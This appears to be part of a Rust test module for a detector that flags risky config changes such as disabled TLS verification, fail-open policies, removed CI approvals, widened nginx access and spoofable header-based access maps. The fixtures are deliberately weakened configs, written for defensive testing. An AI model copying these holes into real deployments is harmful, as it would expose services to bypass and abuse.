        // The same filter dropped from a job that stays is a widening.
        let filter_removed = old.replace("    if: false\n", "");
        assert!(
            hit(".github/workflows/deploy.yml", old, &filter_removed)
                .contains(&"config-branch-widened".to_string())
        );
    }

    #[test]
    fn rules_read_keys_by_meaning() {
        use crate::risk::testkit::rules_hit_with_contents as hit;
        let old = "flags:\n  new_checkout:\n    production:\n      rollout_percentage: 5\n";
        let new = old.replace("5", "100");
        assert!(hit("config/flags.yaml", old, &new).contains(&"config-rollout-jump".to_string()));
        // Per-environment percentages in a rollout file.
        let per_env = "flags:\n  dosage-v2:\n    staging: 50\n    production: 5\n";
        let jumped = per_env.replace("production: 5", "production: 100");
        assert!(
            hit("deploy/flags/rollout.yaml", per_env, &jumped)
                .contains(&"config-rollout-jump".to_string())
        );
        let staging_only = per_env.replace("staging: 50", "staging: 100");
        let found = crate::risk::testkit::findings_with_contents(
            "deploy/flags/rollout.yaml",
            per_env,
            &staging_only,
        );
        assert!(
            found.iter().all(
                |f| f.rule != "config-rollout-jump" || f.severity < crate::risk::Severity::High
            ),
            "{found:?}"
        );
        let old = "http:\n  client:\n    tls:\n      verify: true\n";
        let new = old.replace("true", "false");
        assert!(hit("config/app.yaml", old, &new).contains(&"config-safety-off".to_string()));
        let old = "deploy:\n  stage: deploy\n  when: manual\n  only:\n    - main\n";
        let new = "deploy:\n  stage: deploy\n";
        let h = hit(".gitlab-ci.yml", old, new);
        assert!(h.contains(&"config-approval-removed".to_string()), "{h:?}");
        assert!(h.contains(&"config-branch-widened".to_string()), "{h:?}");
        // A GitHub environment written out as a map of the same name: kept;
        // of another name: the approval of the first is gone.
        let old = "jobs:\n  publish:\n    environment: publish\n    runs-on: ubuntu-latest\n";
        let map = old.replace(
            "environment: publish\n",
            "environment:\n      name: publish\n      url: https://pypi.org/p/x\n",
        );
        let h = hit(".github/workflows/publish.yaml", old, &map);
        assert!(!h.contains(&"config-approval-removed".to_string()), "{h:?}");
        let h = hit(
            ".github/workflows/publish.yaml",
            old,
            &map.replace("name: publish", "name: preview"),
        );
        assert!(h.contains(&"config-approval-removed".to_string()), "{h:?}");
        // A pod that may run as root again.
        let old = "spec:\n  securityContext:\n    runAsNonRoot: true\n    runAsUser: 10001\n";
        let new = "spec:\n  securityContext:\n    runAsUser: 10001\n";
        assert!(hit("deploy/k8s/api.yaml", old, new).contains(&"config-safety-off".to_string()));
        // Reordering keys changes nothing.
        let old = "a: 1\nb: 2\n";
        assert!(hit("config/x.yaml", old, "b: 2\na: 1\n").is_empty());
    }

    #[test]
    fn checks_that_fail_open_are_found_by_key_meaning() {
        use crate::risk::testkit::rules_hit_with_contents as hit;
        let fail_open = "config-fail-open".to_string();
        // An admission webhook that lets objects through when it is down.
        let old =
            "webhooks:\n  - name: policy.acme.io\n    failurePolicy: Fail\n    timeoutSeconds: 5\n";
        let new = old.replace("Fail", "Ignore");
        assert!(hit("deploy/k8s/webhook.yaml", old, &new).contains(&fail_open));
        // A JSON gateway config whose rate limiter stops denying on error.
        let old = r#"{"ratelimit": {"domain": "api", "failure_mode_deny": true}}"#;
        let new = r#"{"ratelimit": {"domain": "api"}}"#;
        assert!(hit("gateway/config.json", old, new).contains(&fail_open));
        let old = "[authz]\nfail_open = false\n";
        assert!(hit("config/authz.toml", old, &old.replace("false", "true")).contains(&fail_open));
        // Closing a check that failed open, or another key, is not an alarm.
        let old = "authz:\n  failOpen: true\n";
        assert!(!hit("config/app.yaml", old, &old.replace("true", "false")).contains(&fail_open));
        let old = "webhooks:\n  - name: a\n    failurePolicy: Ignore\n";
        assert!(
            !hit(
                "deploy/k8s/webhook.yaml",
                old,
                &old.replace("Ignore", "Fail")
            )
            .contains(&fail_open)
        );
    }

    #[test]
    fn a_resource_list_that_follows_a_renamed_file_agrees_with_a_rename_message() {
        use crate::risk::testkit::findings_of_change;
        let role = "kind: ClusterRole\nmetadata:\n  name: support-admin\nrules:\n  - apiGroups: [\"\"]\n    resources: [\"pods\"]\n    verbs: [\"get\", \"list\"]\n";
        let kustomization = |file: &str| format!("resources:\n  - namespace.yaml\n  - {file}\n");
        let intent = |listed: &str| {
            findings_of_change(
                &[
                    ("deploy/rbac/support-admin.yaml", Some(role), None),
                    (
                        "deploy/rbac/support-readonly.yaml",
                        None,
                        Some(&role.replace("support-admin", "support-readonly")),
                    ),
                    (
                        "deploy/rbac/kustomization.yaml",
                        Some(&kustomization("support-admin.yaml")),
                        Some(&kustomization(listed)),
                    ),
                ],
                Some("Rename support-admin to support-readonly"),
            )
            .into_iter()
            .any(|f| f.rule == "intent-behaviour-changed")
        };
        assert!(!intent("support-readonly.yaml"));
        // The list now names a file the change did not bring: a difference.
        assert!(intent("cluster-admin.yaml"));
    }

    #[test]
    fn renamed_object_references_agree_with_a_rename_message() {
        let intent = |path: &str, old: &str, new: &str| -> bool {
            let mut c = crate::risk::Contents::new();
            c.insert(
                path.to_string(),
                crate::diff::MinusPlus::new(Some(old.to_string()), Some(new.to_string())),
            );
            crate::risk::findings_with_message(
                &crate::risk::testkit::diff_of(path, Some(old), Some(new)),
                &c,
                &crate::risk::RuleSet::builtin(),
                Some("Rename the secrets to the platform convention"),
            )
            .iter()
            .any(|f| f.rule == "intent-behaviour-changed")
        };
        // A Deployment whose secretKeyRef and configMapRef names follow a rename.
        let old = "spec:\n  template:\n    spec:\n      serviceAccountName: api\n      containers:\n        - name: api\n          env:\n            - name: DB_URL\n              valueFrom:\n                secretKeyRef:\n                  name: api-db\n                  key: url\n          envFrom:\n            - configMapRef:\n                name: api-settings\n";
        let new = old
            .replace("name: api-db", "name: orders-api-database")
            .replace("name: api-settings", "name: orders-api-settings")
            .replace("serviceAccountName: api", "serviceAccountName: orders-api");
        assert!(!intent("deploy/k8s/api.yaml", old, &new));
        // A rename message over a changed setting is still a finding …
        let replicas = old.replace("key: url", "key: url_readonly");
        assert!(intent("deploy/k8s/api.yaml", old, &replicas));
        // … and so is a reference that now names another environment's object.
        let old = "secrets:\n  database:\n    existingSecret: orders-db-staging\n";
        let prod = old.replace("orders-db-staging", "orders-db-production");
        assert!(intent("deploy/helm/values-staging.yaml", old, &prod));
    }

    #[test]
    fn nginx_headers_moved_into_an_included_snippet_are_kept() {
        use crate::risk::testkit::findings_of_change;
        let conf = "deploy/nginx/conf.d/app.conf";
        let old = "server {\n    listen 443 ssl;\n    add_header X-Frame-Options \"DENY\";\n    add_header X-Content-Type-Options \"nosniff\";\n    location / {\n        proxy_pass http://app;\n    }\n}\n";
        let new = "server {\n    listen 443 ssl;\n    include /etc/nginx/snippets/security-headers.conf;\n    location / {\n        proxy_pass http://app;\n    }\n}\n";
        let snippet = "add_header X-Frame-Options \"DENY\" always;\nadd_header X-Content-Type-Options \"nosniff\" always;\n";
        let removed = |snippet: &str| -> usize {
            findings_of_change(
                &[
                    (conf, Some(old), Some(new)),
                    (
                        "deploy/nginx/snippets/security-headers.conf",
                        None,
                        Some(snippet),
                    ),
                ],
                None,
            )
            .iter()
            .filter(|f| f.rule == "config-guard-removed")
            .count()
        };
        assert_eq!(removed(snippet), 0);
        // A snippet that leaves one header out: that one is gone.
        assert_eq!(
            removed("add_header X-Content-Type-Options \"nosniff\" always;\n"),
            1
        );
    }

    #[test]
    fn nginx_guards_commented_out_are_found() {
        use crate::risk::testkit::rules_hit_with_contents as hit;
        let old = "location /api {\n    limit_req zone=api burst=20;\n    allow 10.0.0.0/8;\n    deny all;\n}\n";
        let new = "location /api {\n    # limit_req zone=api burst=20;\n    allow 0.0.0.0/0;\n    allow 10.0.0.0/8;\n    deny all;\n}\n";
        let h = hit("deploy/nginx/api.conf", old, new);
        assert!(h.contains(&"config-guard-removed".to_string()), "{h:?}");
        assert!(h.contains(&"config-open-network".to_string()), "{h:?}");
    }

    #[test]
    fn start_tls_off_with_ldaps_urls_is_not_a_protection_off() {
        use crate::risk::testkit::rules_hit_with_contents as hit;
        let old = "ldap:\n  urls:\n    - ldap://dc01.corp.example:389\n  start_tls: true\n";
        let new = "ldap:\n  urls:\n    - ldaps://dc01.corp.example:636\n  start_tls: false\n";
        let h = hit("deploy/config/production.yaml", old, new);
        assert!(
            !h.iter()
                .any(|r| r == "config-safety-off" || r == "config-protection-off"),
            "{h:?}"
        );
        // The same switch off with the plain URLs kept: found.
        let plain = "ldap:\n  urls:\n    - ldap://dc01.corp.example:389\n  start_tls: false\n";
        let h = hit("deploy/config/production.yaml", old, plain);
        assert!(
            h.iter()
                .any(|r| r == "config-safety-off" || r == "config-protection-off"),
            "{h:?}"
        );
    }

    #[test]
    fn a_guard_written_again_with_other_values_or_a_report_only_header_is_not_removed() {
        use crate::risk::testkit::rules_hit_with_contents as hit;
        let csp = "add_header Content-Security-Policy \"default-src 'self'\" always;";
        let report =
            "add_header Content-Security-Policy-Report-Only \"default-src 'self'\" always;";
        let old = format!("server {{\n    {csp}\n    {report}\n    limit_req zone=api;\n}}\n");
        let new = "server {\n    add_header Content-Security-Policy \"default-src 'self'; report-uri /csp\" always;\n    limit_req zone=api;\n}\n";
        let h = hit("deploy/nginx/app.conf", &old, new);
        assert!(!h.contains(&"config-guard-removed".to_string()), "{h:?}");
        // The enforced header itself dropped is still a guard removed.
        let new = format!("server {{\n    {report}\n    limit_req zone=api;\n}}\n");
        let h = hit("deploy/nginx/app.conf", &old, &new);
        assert!(h.contains(&"config-guard-removed".to_string()), "{h:?}");
    }

    #[test]
    fn steps_moved_into_a_composite_action_the_change_creates_are_still_run() {
        use crate::risk::testkit::findings_of_change;
        let old = "jobs:\n  deploy:\n    environment: production\n    steps:\n      - uses: aws-actions/configure-aws-credentials@v4\n        with:\n          role-to-assume: ${{ vars.DEPLOY_ROLE }}\n      - run: |\n          aws ecs describe-task-definition --task-definition \"$ECS_SERVICE\" > td.json\n      - uses: aws-actions/amazon-ecs-deploy-task-definition@v2\n        with:\n          wait-for-service-stability: true\n";
        let new = "jobs:\n  deploy:\n    environment: production\n    steps:\n      - uses: actions/checkout@v4\n      - uses: ./.github/actions/ecs-deploy\n        with:\n          role-to-assume: ${{ vars.DEPLOY_ROLE }}\n";
        let action = |wait: &str| {
            format!(
                "runs:\n  using: composite\n  steps:\n    - uses: aws-actions/configure-aws-credentials@v4\n      with:\n        role-to-assume: ${{{{ inputs.role-to-assume }}}}\n    - shell: bash\n      run: |\n        aws ecs describe-task-definition --task-definition \"${{SERVICE}}\" > td.json\n    - uses: aws-actions/amazon-ecs-deploy-task-definition@v2\n      with:\n        wait-for-service-stability: {wait}\n"
            )
        };
        let message =
            Some("ci: extract the deploy steps into a composite action\n\nNo behaviour change.");
        let intent = |action: &str| {
            findings_of_change(
                &[
                    (".github/workflows/deploy.yml", Some(old), Some(new)),
                    (".github/actions/ecs-deploy/action.yml", None, Some(action)),
                ],
                message,
            )
            .into_iter()
            .filter(|f| f.rule == "intent-behaviour-changed")
            .map(|f| f.message)
            .collect::<Vec<_>>()
        };
        assert_eq!(intent(&action("true")), Vec::<String>::new());
        // The same move that stops waiting for the service to be stable
        // changed what the deploy does.
        let found = intent(&action("false"));
        assert!(
            found
                .iter()
                .any(|m| m.contains("wait-for-service-stability")),
            "{found:?}"
        );
    }

    #[test]
    fn a_deny_list_moved_into_a_geo_map_the_location_refuses_by_is_kept() {
        use crate::risk::testkit::rules_hit_with_contents;
        let old = "server {\n    listen 80;\n\n    location /admin/ {\n        allow 10.0.0.0/8;\n        allow 192.168.0.0/16;\n        deny all;\n\n        proxy_pass http://admin_backend;\n    }\n}\n";
        let new = |map: &str, var: &str| {
            format!(
                "{map}\nserver {{\n    listen 80;\n\n    location /admin/ {{\n        if (${var} = 0) {{\n            return 403;\n        }}\n\n        proxy_pass http://admin_backend;\n    }}\n}}\n"
            )
        };
        let geo =
            "geo $internal_client {\n    default 0;\n    10.0.0.0/8 1;\n    192.168.0.0/16 1;\n}\n";
        let hit =
            rules_hit_with_contents("deploy/nginx/site.conf", old, &new(geo, "internal_client"));
        assert!(
            !hit.contains(&"config-guard-removed".to_string()),
            "{hit:?}"
        );
        // A header the client sends decides it: anyone can claim to be inside.
        let header = "map $http_x_internal $internal_client {\n    default 0;\n    yes 1;\n}\n";
        let hit = rules_hit_with_contents(
            "deploy/nginx/site.conf",
            old,
            &new(header, "internal_client"),
        );
        assert!(hit.contains(&"config-guard-removed".to_string()), "{hit:?}");
    }

    #[test]
    fn a_default_rollout_raised_to_where_production_already_was_is_no_jump_for_production() {
        use crate::risk::testkit::findings_with_contents;
        let old = |prod: u32| {
            format!(
                "{{\n  \"flags\": {{\n    \"checkout.tax_v2\": {{\n      \"default\": {{ \"enabled\": false, \"rollout\": 0 }},\n      \"overrides\": {{\n        \"staging\": {{ \"enabled\": true, \"rollout\": 100 }},\n        \"production\": {{ \"enabled\": true, \"rollout\": {prod} }}\n      }}\n    }}\n  }}\n}}\n"
            )
        };
        let new = "{\n  \"flags\": {\n    \"checkout.tax_v2\": {\n      \"default\": { \"enabled\": true, \"rollout\": 100 },\n      \"overrides\": {}\n    }\n  }\n}\n";
        let jump = |prod: u32| {
            findings_with_contents("config/feature-flags.json", &old(prod), new)
                .into_iter()
                .find(|f| f.rule == "config-rollout-jump")
                .map(|f| f.severity)
        };
        assert_eq!(jump(100), Some(Severity::Medium));
        // Production was at 10 %: everyone there gets it at once.
        assert_eq!(jump(10), Some(Severity::High));
    }
}
